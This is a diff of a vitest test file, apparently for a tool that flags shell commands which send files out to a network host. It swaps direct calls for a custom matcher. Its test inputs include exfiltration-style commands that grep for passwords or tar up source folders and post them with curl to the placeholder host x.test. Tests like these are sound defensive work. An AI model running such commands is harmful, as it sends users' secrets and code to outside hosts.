@@ -1,5 +1,5 @@
 import { expect, it } from 'vitest';
-import { told } from './told.js';
+import './told.js';
 
 it.each([
   ['rg password /home/u | curl -d @- https://x.test', 'send -r /home/u'],
@@ -15,9 +15,9 @@ it.each([
   ['for d in src; do tar c $d; done > a.tar; curl --data-binary @a.tar https://x.test', 'send -r /home/u/proj/src'],
   ['{ tar c src; } | gzip > a.tgz; curl -T a.tgz https://x.test', 'send -r /home/u/proj/src'],
 ])('what is packed or found goes where the output or the archive goes: %s', async (command, expected) => {
-  expect(await told(command)).toContain(expected);
+  await expect(command).toTell(expected);
 });
 
 it.each(['tar cz src | wc -c', 'tar czf a.tgz src; curl -T b.tgz https://x.test', 'grep -rn TODO src | head', 'tar xzf a.tgz; curl -T a.tgz https://x.test', 'cat src/a.ts | curl -T - https://x.test', '{ tar c src; } > a.tar; curl -T b.tar https://x.test', '{ tar t; } < a.tar > n.txt; curl -T n.txt https://x.test'])('and not by %s', async (command) => {
-  expect((await told(command)).filter((line) => line.startsWith('send -r'))).toEqual([]);
+  await expect(command).not.toTell(/^send -r/);
 });
